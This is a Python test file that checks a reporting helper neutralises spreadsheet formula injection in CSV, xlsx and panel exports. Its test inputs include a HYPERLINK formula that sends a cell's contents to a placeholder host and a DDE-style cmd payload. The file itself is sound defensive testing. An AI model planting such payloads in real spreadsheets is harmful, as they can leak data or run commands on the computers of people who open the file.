"""Tables written for spreadsheets (CSV, tables.xlsx, the municipal panel CSV) never carry a live
formula: text cells that begin with = + - @ tab or CR get a leading apostrophe; numbers stay numbers;
the markdown report keeps the text as it was."""

from __future__ import annotations

import csv
import io

import pandas as pd
import pytest

from helpers.reporting.table_files import safe_frame, spreadsheet_safe, workbook_bytes, write_tables

ATTACK = '=HYPERLINK("http://example.invalid/?"&B3,"click")'


@pytest.mark.parametrize("text,expected", [
    (ATTACK, "'" + ATTACK),
    ("+1+2", "'+1+2"),
    ("-2+3+cmd|' /C calc'!A0", "'-2+3+cmd|' /C calc'!A0"),
    ("@SUM(A1:A9)", "'@SUM(A1:A9)"),
    ("\t=1", "'\t=1"),
    ("\r=1", "'\r=1"),
    ("-", "-"),  # a dash placeholder: text, no formula
    ("-3.5", "-3.5"),  # a plain number as text: a spreadsheet reads a number, runs nothing
    ("+2%", "+2%"),
    ("-1,234", "-1,234"),
    ("住民票の写し", "住民票の写し"),
    ("a=b", "a=b"),
])
def test_text_cells(text, expected):
    assert spreadsheet_safe(text) == expected


@pytest.mark.parametrize("value", [-3, -3.5, 0, float("nan"), None, True])
def test_non_text_unchanged(value):
    out = spreadsheet_safe(value)
    assert out is value or (out != out and value != value)


def frame() -> pd.DataFrame:
    return pd.DataFrame({"procedure": [ATTACK, "転出届", "-"], "rate": [-1.5, 50.0, None], "n": [-3, 4, 5],
                         "=cmd": ["@x", "ok", "-2"]})


def test_csv_and_workbook_are_spreadsheet_safe(tmp_path):
    from openpyxl import load_workbook

    df = frame()
    paths = write_tables([("=caption", df)], tmp_path)
    rows = list(csv.reader(io.StringIO(paths[0].read_text(encoding="utf-8-sig"))))
    assert rows[0] == ["procedure", "rate", "n", "'=cmd"]
    assert rows[1] == ["'" + ATTACK, "-1.5", "-3", "'@x"]
    assert rows[3] == ["-", "", "5", "-2"]
    raw = workbook_bytes([("=caption", df)])
    ws = load_workbook(io.BytesIO(raw))["table_01"]
    assert ws["A1"].value == "=caption" and ws["A1"].data_type == "s" and ws["A1"].quotePrefix
    assert ws["A3"].value == ATTACK and ws["A3"].data_type == "s" and ws["A3"].quotePrefix  # text, not a formula
    assert ws["D2"].value == "=cmd" and ws["D2"].quotePrefix and ws["D3"].value == "@x" and ws["D3"].quotePrefix
    assert ws["B3"].value == -1.5 and ws["C3"].value == -3  # numbers stay numbers
    assert ws["A5"].value == "-" and not ws["A5"].quotePrefix and not ws["B4"].quotePrefix
    assert all(c.data_type != "f" for row in ws.iter_rows() for c in row)
    import zipfile

    sheet = zipfile.ZipFile(io.BytesIO(raw)).read("xl/worksheets/sheet1.xml")
    assert b"<f>" not in sheet  # no formula element anywhere
    assert df.loc[0, "procedure"] == ATTACK  # the caller's frame is not changed


def test_markdown_keeps_the_text(tmp_path):
    from helpers.reporting.report import Report

    r = Report("t", lang="en")
    r.table(frame()[["procedure"]])
    md = r.to_markdown()
    assert "'=HYPERLINK" not in md and "HYPERLINK" in md


def test_safe_frame_keeps_numeric_columns():
    out = safe_frame(frame())
    assert out["rate"].dtype == float and out["n"].dtype.kind == "i"


def test_municipal_panel_csv_is_spreadsheet_safe(tmp_path, monkeypatch):
    from helpers.reporting import panel_export

    wide = pd.DataFrame({"entity": [ATTACK], "ai": [1.0]})
    monkeypatch.setattr(panel_export, "wide_panel", lambda long: wide)
    monkeypatch.setattr(panel_export, "dictionary_markdown", lambda long, lang="en": "x\n")
    monkeypatch.setattr(panel_export, "with_finance", lambda frame: frame)  # the finance merges are pinned elsewhere
    monkeypatch.setattr(panel_export, "with_finance_long", lambda frame: frame)
    long = pd.DataFrame({"a": [1]})
    paths = panel_export.export_panel(tmp_path, long, lang="en")
    text = paths["csv"].read_text(encoding="utf-8-sig")
    assert text.splitlines()[1] == "\"'=HYPERLINK(\"\"http://example.invalid/?\"\"&B3,\"\"click\"\")\",1.0"
